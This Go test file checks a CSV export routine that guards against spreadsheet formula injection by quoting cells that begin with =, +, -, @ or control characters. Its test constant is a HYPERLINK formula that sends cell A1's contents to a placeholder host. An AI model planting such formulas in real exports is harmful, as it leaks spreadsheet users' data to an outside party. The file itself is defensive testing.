package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// The injection from issue 14, after each character a spreadsheet takes as
// the start of a formula.
const injection = `HYPERLINK("http://x.example/?"&A1,"click")`

func TestSafeCellQuotesEachFormulaStart(t *testing.T) {
	for _, c := range formulaStarts {
		in := string(c) + injection
		if got := SafeCell(in); got != "'"+in {
			t.Errorf("%q: got %q, want a single quote in front", in, got)
		}
	}
	for _, in := range []string{"-1+1", "+12", "-", "=", "@", "-12.50e3", "-0x10", "- 5", "-12,50", "\t12", "\r-1"} {
		if got := SafeCell(in); got != "'"+in {
			t.Errorf("%q: got %q; not a plain number, so it must be quoted", in, got)
		}
	}
}

func TestSafeCellKeepsNumbersAndText(t *testing.T) {
	for _, in := range []string{"", "-12.50", "-0.01", "-5", "12.50", "0", "1234567", "2027 客服中心采购", "chatopera",
		"'=already text", " =1+1", "a=b", "TOTAL", "未定价 unpriced", "2027-01-01", "１＝１"} {
		if got := SafeCell(in); got != in {
			t.Errorf("%q changed to %q", in, got)
		}
	}
}

func TestCSVWriterNeutralisesEveryCell(t *testing.T) {
	var b bytes.Buffer
	w := NewCSVWriter(&b)
	rows := [][]string{{"name", "amount"}, {"=" + injection, "-12.50"}, {"@SUM(A1:A2)", "+1"}, {"普通", "\r\n=1"}}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b.Bytes(), []byte("\uFEFF")) {
		t.Fatal("no byte-order mark")
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"name", "amount"}, {"'=" + injection, "-12.50"}, {"'@SUM(A1:A2)", "'+1"}, {"普通", "'\n=1"}}
	if len(got) != len(want) {
		t.Fatalf("read back %q", got)
	}
	for i := range want {
		for j := range want[i] {
			if got[i][j] != want[i][j] {
				t.Errorf("row %d cell %d: %q, want %q", i, j, got[i][j], want[i][j])
			}
		}
	}
}
